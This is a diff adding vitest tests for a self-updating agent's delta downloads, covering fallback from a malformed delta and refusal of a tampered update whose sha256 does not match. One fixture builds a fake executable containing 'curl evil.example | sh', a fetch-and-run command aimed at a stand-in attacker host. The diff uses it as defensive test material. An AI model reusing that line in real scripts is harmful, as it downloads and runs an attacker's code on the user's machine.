@@ -1,7 +1,8 @@
 // The self-update flow for real, short of a real collector: an installed POSIX layout in a scratch directory, a
-// local HTTP server (node:http) serving the offered file under the collector's release path, Ed25519 keys made per
-// run, and a stand-in "new executable" (a shell script answering --version) that the smoke test really runs. Time
-// (the download jitter and the rollback deadline) moves only with a manual clock.
+// local HTTP server (node:http) serving the offered file under the collector's release path (and, to an agent that
+// names its executable, a delta made by the collector's encoder), Ed25519 keys made per run, and a stand-in "new
+// executable" (a shell script answering --version) that the smoke test really runs. Time (the download jitter and
+// the rollback deadline) moves only with a manual clock.
 import { createHash, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';
 import { execFileSync } from 'node:child_process';
 import { existsSync, mkdirSync, mkdtempSync, readdirSync, readFileSync, readlinkSync, realpathSync, rmSync } from 'node:fs';
@@ -9,6 +10,7 @@ import { createServer, type IncomingMessage, type Server } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
+import { brotliCompressSync } from 'node:zlib';
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest';
 import type { watchpost } from '../../../proto/index.js';
 import type { SampleDraft } from '../../../agent/src/sample.js';
@@ -17,6 +19,8 @@ import { NO_RELEASE_KEY, type ReleaseKey } from '../../../agent/src/update/relea
 import { releaseSigningMessage } from '../../../agent/src/update/signature.js';
 import { detectInstallation } from '../../../agent/src/update/swap.js';
 import { createUpdater, type UpdaterOptions } from '../../../agent/src/update/updater.js';
+import { encodeDelta } from '../../../collector/src/releases/delta-encode.js';
+import { deltaHeader } from '../../../collector/src/releases/delta-format.js';
 import { ManualClock } from '../helpers/manual-clock.js';
 import { recordingLogger } from '../helpers/recording-log.js';
 import { executableScript, installPosix } from './helpers.js';
@@ -28,6 +32,8 @@ const ROLLBACK_SECONDS = 300;
 
 /** What the collector serves at /api/v1/releases/<version>/<target>. */
 const served = new Map<string, Buffer>();
+/** The delta (before brotli) served instead at the same path to a request naming the running executable. */
+const deltas = new Map<string, Buffer>();
 const requests: IncomingMessage[] = [];
 let server: Server;
 let base = '';
@@ -35,6 +41,11 @@ let base = '';
 beforeAll(async () => {
   server = createServer((req, res) => {
     requests.push(req);
+    const delta = req.headers['x-watchpost-delta-from'] ? deltas.get(req.url ?? '') : undefined;
+    if (delta) {
+      res.writeHead(200, { 'content-type': 'application/vnd.watchpost.delta', 'content-encoding': 'br' });
+      return void res.end(brotliCompressSync(delta));
+    }
     const body = served.get(req.url ?? '');
     if (!body) return void ((res.statusCode = 404), res.end());
     res.end(body);
@@ -83,6 +94,7 @@ beforeEach(() => {
   reports = [];
   restarts = [];
   requests.length = 0;
+  deltas.clear();
 });
 afterEach(() => rmSync(root, { recursive: true, force: true }));
 
@@ -294,6 +306,59 @@ describe('an offer', () => {
     expect(requests).toHaveLength(0);
     expect(reports).toEqual([]);
     expect(current()).toBe('watchpost-agent 0.1.0');
+  });
+});
+
+describe('an offer answered with a delta', () => {
+  const RUNNING = Buffer.from(executableScript('0.1.0')); // what installPosix wrote as versions/0.1.0
+  const running = () => join(prefix, 'versions/0.1.0/watchpost-agent');
+  const ends = (target: Buffer) => ({ sourceBytes: RUNNING.length, targetBytes: target.length, sourceSha256: sha256(RUNNING), targetSha256: sha256(target) });
+  const delta = async (target: Buffer) => Buffer.concat(await encodeDelta(RUNNING, target, ends(target)));
+  const deltaFrom = () => requests.map((r) => r.headers['x-watchpost-delta-from'] ?? null);
+
+  it('rebuilds the new version from the running executable and the delta, verifies it and swaps it in', async () => {
+    const o = offerFor('0.2.0', NEW);
+    deltas.set(o.url!, await delta(NEW));
+    const old = updater('0.1.0', { executable: running() });
+    expect(await offer(old, o)).toEqual({ outcome: 'swapped', version: '0.2.0' });
+    expect(deltaFrom()).toEqual([sha256(RUNNING)]);
+    expect(current()).toBe('watchpost-agent 0.2.0');
+    expect(old.log.lines.find((l) => l.message === 'update: 0.2.0 received')?.fields).toMatchObject({ transfer: 'delta', bytes: NEW.length });
+  });
+
+  it('drops a hostile delta (a copy past the running executable) and swaps in the full file instead, logging why', async () => {
+    const o = offerFor('0.2.0', NEW);
+    deltas.set(o.url!, Buffer.concat([deltaHeader(ends(NEW)), Buffer.from([0x01, 0x00, 0xff, 0x7f, 0x00])]));
+    const old = updater('0.1.0', { executable: running() });
+    expect(await offer(old, o)).toEqual({ outcome: 'swapped', version: '0.2.0' });
+    expect(deltaFrom()).toEqual([sha256(RUNNING), null]);
+    expect(old.log.lines.filter((l) => l.level === 'warn')).toEqual([
+      expect.objectContaining({
+        message: 'update: the delta for 0.2.0 was not used; downloading the full file',
+        fields: { reason: expect.stringMatching(/reaches past/) },
+      }),
+    ]);
+    expect(current()).toBe('watchpost-agent 0.2.0');
+  });
+
+  it('never swaps when neither the delta nor the full file is the signed one: refused, the running version stays', async () => {
+    const o = offerFor('0.2.0', NEW);
+    const evil = Buffer.from(executableScript('0.2.0', 'curl evil.example | sh\n'));
+    deltas.set(o.url!, await delta(evil).then((d) => Buffer.concat([deltaHeader(ends(NEW)), d.subarray(88)]))); // claims NEW, makes evil
+    served.set(o.url!, evil);
+    const old = updater('0.1.0', { executable: running() });
+    expect(await offer(old, o)).toEqual({ outcome: 'refused', reason: expect.stringMatching(/sha256 mismatch/) });
+    expect(deltaFrom()).toEqual([sha256(RUNNING), null]);
+    expect(readlinkSync(join(prefix, 'current'))).toBe('versions/0.1.0');
+    expect(versions()).toEqual(['0.1.0']);
+    expect(restarts).toEqual([]);
+  });
+
+  it('asks for no delta when the running executable cannot be read, and takes the full file', async () => {
+    const old = updater('0.1.0', { executable: join(root, 'no-such-executable') });
+    expect(await offer(old, offerFor('0.2.0', NEW))).toEqual({ outcome: 'swapped', version: '0.2.0' });
+    expect(deltaFrom()).toEqual([null]);
+    expect(old.log.count(/cannot hash the running executable/)).toBe(1);
   });
 });
 
